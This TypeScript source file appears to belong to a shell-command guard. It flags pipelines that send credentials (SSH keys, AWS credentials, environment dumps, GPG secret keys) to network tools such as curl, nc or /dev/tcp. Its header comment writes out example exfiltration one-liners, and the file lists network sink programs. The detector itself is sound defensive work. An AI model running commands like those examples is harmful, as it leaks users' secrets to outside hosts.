/**
 * Arm `credential-exfiltration`: a network sink and a credential in the same pipeline (or the
 * same command): `cat ~/.ssh/id_rsa | nc h 1`, `curl -F f=@~/.aws/credentials x`,
 * `env | curl -d @- x`, `cat .env > /dev/tcp/h/1`. Using a credential for what it is for is
 * not sending it: `ssh -i key host`, `curl --cert c.pem --key c.key url`, `scp -i key f host:`
 * are left alone, and so are public keys (`*.pub`) and templates (`.env.example`).
 */
import type { Redirect, Word } from '../reading/resolution';
import type { PeeledCommand } from '../programs/wrappers';
import { hardlineFinding, type HardlineFinding } from './arms';
import { commandName, literalText } from './commandName';
import { credentialKind, isNetworkDevicePath, wordPathText } from './paths';

/** One command of a pipeline, with its wrappers already peeled. */
export interface PipelineCommand {
  peeled: PeeledCommand;
  redirects: readonly Redirect[];
}

/** How a sink's own arguments are read: which option values are not data it sends. */
interface SinkReading {
  /** Short options that take a value (a cluster stops at them). */
  shortWithValue: string;
  /** Of those, the ones whose value is not sent (output files, keys used for authentication). */
  shortSkipped: string;
  longSkipped: ReadonlySet<string>;
  /** Which operands may be data: all, none (ssh, nc: only stdin is sent), or local paths only. */
  operands: 'all' | 'none' | 'local';
}

const CURL: SinkReading = {
  shortWithValue: 'AbcCdDeEFhHKmoPQrtTuUwxXyYz',
  shortSkipped: 'bcDEKo',
  longSkipped: new Set([
    'output', 'cookie-jar', 'cookie', 'dump-header', 'trace', 'trace-ascii', 'stderr', 'key', 'cert', 'cacert', 'capath',
    'crlfile', 'proxy-key', 'proxy-cert', 'proxy-cacert', 'proxy-capath', 'proxy-crlfile', 'netrc-file', 'config',
    'pinnedpubkey', 'proxy-pinnedpubkey', 'output-dir', 'etag-save', 'etag-compare', 'hsts', 'alt-svc', 'libcurl',
    'unix-socket', 'abstract-unix-socket', 'egd-file', 'random-file',
  ]),
  operands: 'all',
};

const WGET: SinkReading = {
  shortWithValue: 'OoaPiBeDlQTtUwY',
  shortSkipped: 'OoaPi',
  longSkipped: new Set([
    'output-document', 'output-file', 'append-output', 'directory-prefix', 'certificate', 'private-key', 'ca-certificate',
    'ca-directory', 'crl-file', 'save-cookies', 'load-cookies', 'config', 'input-file', 'hsts-file', 'warc-file', 'rejected-log',
  ]),
  operands: 'all',
};

const SCP: SinkReading = { shortWithValue: 'cDFiJloPSX', shortSkipped: 'cDFiJloPSX', longSkipped: new Set(), operands: 'local' };
const SFTP: SinkReading = { shortWithValue: 'BbcDFiJloPRSs', shortSkipped: 'BbcDFiJloPRSs', longSkipped: new Set(), operands: 'none' };
const RSYNC: SinkReading = {
  shortWithValue: 'eBfTM',
  shortSkipped: 'eBfTM',
  longSkipped: new Set([
    'rsh', 'password-file', 'exclude-from', 'include-from', 'files-from', 'log-file', 'temp-dir', 'partial-dir', 'backup-dir',
    'compare-dest', 'copy-dest', 'link-dest', 'filter', 'rsync-path',
  ]),
  operands: 'local',
};
const STDIN_ONLY: SinkReading = { shortWithValue: '', shortSkipped: '', longSkipped: new Set(), operands: 'none' };
const ALL_WORDS: SinkReading = { shortWithValue: '', shortSkipped: '', longSkipped: new Set(), operands: 'all' };

const SINKS: Readonly<Record<string, SinkReading>> = {
  curl: CURL,
  wget: WGET,
  scp: SCP,
  sftp: SFTP,
  rsync: RSYNC,
  ssh: STDIN_ONLY,
  nc: STDIN_ONLY,
  ncat: STDIN_ONLY,
  netcat: STDIN_ONLY,
  telnet: STDIN_ONLY,
  socat: ALL_WORDS,
  ftp: ALL_WORDS,
  tftp: ALL_WORDS,
  http: ALL_WORDS,
  https: ALL_WORDS,
  xh: ALL_WORDS,
  xhs: ALL_WORDS,
  mail: ALL_WORDS,
  mailx: ALL_WORDS,
  sendmail: ALL_WORDS,
  mutt: ALL_WORDS,
  openssl: STDIN_ONLY,
};

/** Programs that name a key or a file without printing its content. */
const NOT_READERS = new Set([
  'ssh-keygen', 'ssh-add', 'ssh-keyscan', 'ssh-copy-id', 'ls', 'stat', 'file', 'test', '[', 'chmod', 'chown', 'chgrp',
  'touch', 'mkdir', 'rm', 'rmdir', 'wc', 'du', 'realpath', 'readlink', 'basename', 'dirname', 'echo', 'printf', 'cd',
  'pwd', 'which', 'cp', 'mv', 'ln', 'install',
]);

/** `host:path`, `user@host:path`: a remote side of scp/rsync. */
function isRemoteSpec(text: string): boolean {
  return /^[^/]*:/.test(text) || text.includes('://');
}

/**
 * False when {@link sinkName} certainly finds no sink in this command (`innerArgv`: its argv with wrappers peeled): no redirect to a network
 * device and no program of {@link SINKS}. Lets the floor pass over a pipeline without building
 * its {@link PipelineCommand}s; `checkExfiltration` of a pipeline where this is false for every
 * command is null.
 */
export function maySend(innerArgv: readonly Word[], redirects: readonly Redirect[]): boolean {
  for (let k = 0; k < redirects.length; k++) {
    if (isNetworkDevicePath(wordPathText(redirects[k]!.target))) return true;
  }
  const name = commandName(innerArgv[0])?.name ?? null;
  return name !== null && Object.prototype.hasOwnProperty.call(SINKS, name);
}

/** What a network-capable command sends to, or null when it is not a sink. */
function sinkName(command: PipelineCommand): string | null {
  for (const redirect of command.redirects) {
    const target = wordPathText(redirect.target);
    if (isNetworkDevicePath(target)) return `a ${target} connection`;
  }
  const argv = command.peeled.argv;
  const name = commandName(argv[0])?.name ?? null;
  if (name === null || !Object.prototype.hasOwnProperty.call(SINKS, name)) return null;
  if (name === 'rsync' || name === 'scp') {
    return argv.slice(1).some((word) => isRemoteSpec(wordPathText(word))) ? name : null;
  }
  if (name === 'openssl') return literalText(argv[1]) === 's_client' ? 'openssl s_client' : null;
  return name;
}

/**
 * The words of a sink that may be data it sends. For scp and rsync only local operands count,
 * and not the last one: that is the destination (`scp host:.env ./.env` downloads).
 */
function sentWords(reading: SinkReading, args: readonly Word[]): Word[] {
  if (reading.operands === 'none') return [];
  const optionWords: Word[] = [];
  const operandWords: Word[] = [];
  for (let k = 0; k < args.length; k++) {
    const word = args[k]!;
    const text = literalText(word);
    if (text === null || !text.startsWith('-') || text === '-') {
      operandWords.push(word);
      continue;
    }
    if (text.startsWith('--')) {
      const eq = text.indexOf('=');
      const option = text.slice(2, eq === -1 ? undefined : eq);
      if (reading.longSkipped.has(option)) {
        if (eq === -1) k++;
        continue;
      }
      optionWords.push(word);
      continue;
    }
    for (let c = 1; c < text.length; c++) {
      const letter = text[c]!;
      if (!reading.shortWithValue.includes(letter)) continue;
      const attached = c < text.length - 1;
      if (reading.shortSkipped.includes(letter)) {
        if (!attached) k++;
      } else {
        optionWords.push(word);
      }
      break;
    }
  }
  if (reading.operands === 'all') return [...optionWords, ...operandWords];
  const sources = operandWords.slice(0, -1).filter((word) => !isRemoteSpec(wordPathText(word)));
  return [...optionWords, ...sources];
}

/**
 * The credential a word may name, with the path it was seen as, or null. The paths tried, in
 * this order: the word itself, after `@` (`-d @file`, `f=@file`), after `=`, after `:` up to a
 * `,`, and up to a `,`; each up to a `;` (`;type=`). Tried one by one rather than gathered (and
 * deduplicated) first: a path met twice gives the same answer twice, so the first hit is the
 * same, and the usual word (no credential) costs no list.
 */
function credentialInWord(word: Word, home: string): string | null {
  const text = wordPathText(word);
  if (text === '' || text.includes('://')) return null;
  let found = credentialAt(text, home);
  if (found !== null) return found;
  const at = text.lastIndexOf('@');
  if (at !== -1 && (found = credentialAt(text.slice(at + 1), home)) !== null) return found;
  const eq = text.indexOf('=');
  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), home)) !== null) return found;
  const colon = text.indexOf(':');
  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), home)) !== null) return found;
  return credentialAt(upTo(text, ','), home);
}

/** The text before the first `separator` (all of it when there is none): `split(separator)[0]`. */
function upTo(text: string, separator: string): string {
  const end = text.indexOf(separator);
  return end === -1 ? text : text.slice(0, end);
}

/** One path of {@link credentialInWord}: cut at `;`, then judged unless empty. */
function credentialAt(candidate: string, home: string): string | null {
  const path = upTo(candidate, ';');
  if (path === '') return null;
  const kind = credentialKind(path, home);
  return kind === null ? null : `${kind} (${path})`;
}

/** The first credential named by `words[from…]`. */
function credentialIn(words: readonly Word[], from: number, home: string): string | null {
  for (let k = from; k < words.length; k++) {
    const found = credentialInWord(words[k]!, home);
    if (found !== null) return found;
  }
  return null;
}

/** True when every argument (`argv[1…]`) is a literal option: `env`, `env -0`, `export -p`. */
function onlyOptions(argv: readonly Word[]): boolean {
  for (let k = 1; k < argv.length; k++) {
    const text = literalText(argv[k]);
    if (text === null || !text.startsWith('-')) return false;
  }
  return true;
}

function exportsSecretKeys(argv: readonly Word[]): boolean {
  for (let k = 1; k < argv.length; k++) {
    const text = literalText(argv[k]);
    if (text === '--export-secret-keys' || text === '--export-secret-subkeys') return true;
  }
  return false;
}

/** What secret a command puts on its output (or sends itself), or null. */
function sourceOf(command: PipelineCommand, home: string): string | null {
  const { peeled, redirects } = command;
  for (let k = 0; k < redirects.length; k++) {
    const redirect = redirects[k]!;
    if (redirect.op !== '<' && redirect.op !== '<>') continue;
    const fromInput = credentialInWord(redirect.target, home);
    if (fromInput !== null) return fromInput;
  }
  const argv = peeled.argv;
  const lastWrapper = peeled.wrappers[peeled.wrappers.length - 1];
  if (argv.length === 0) return lastWrapper === 'env' ? 'the whole environment (env)' : null;
  const name = commandName(argv[0])?.name ?? null;
  if (name === null) return null;
  if ((name === 'env' || name === 'printenv') && onlyOptions(argv)) return `the whole environment (${name})`;
  if (name === 'set' && argv.length === 1) return 'every shell variable (set)';
  if ((name === 'export' || name === 'declare' || name === 'typeset') && onlyOptions(argv)) return `every shell variable (${name})`;
  if ((name === 'gpg' || name === 'gpg2') && exportsSecretKeys(argv)) return 'GnuPG secret keys';
  if (NOT_READERS.has(name)) return null;
  if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, home);
  return credentialIn(argv, 1, home);
}

/**
 * Checks one pipeline (the commands joined by `|`, or a whole subshell or substitution): refuses
 * when it holds both a network sink and a credential source.
 */
export function checkExfiltration(pipeline: readonly PipelineCommand[], home: string): HardlineFinding | null {
  let sink: string | null = null;
  for (const command of pipeline) {
    sink = sinkName(command);
    if (sink !== null) break;
  }
  // Most pipelines send nothing anywhere; only then are their words read for credentials.
  if (sink === null) return null;
  for (const command of pipeline) {
    const source = sourceOf(command, home);
    if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
  }
  return null;
}
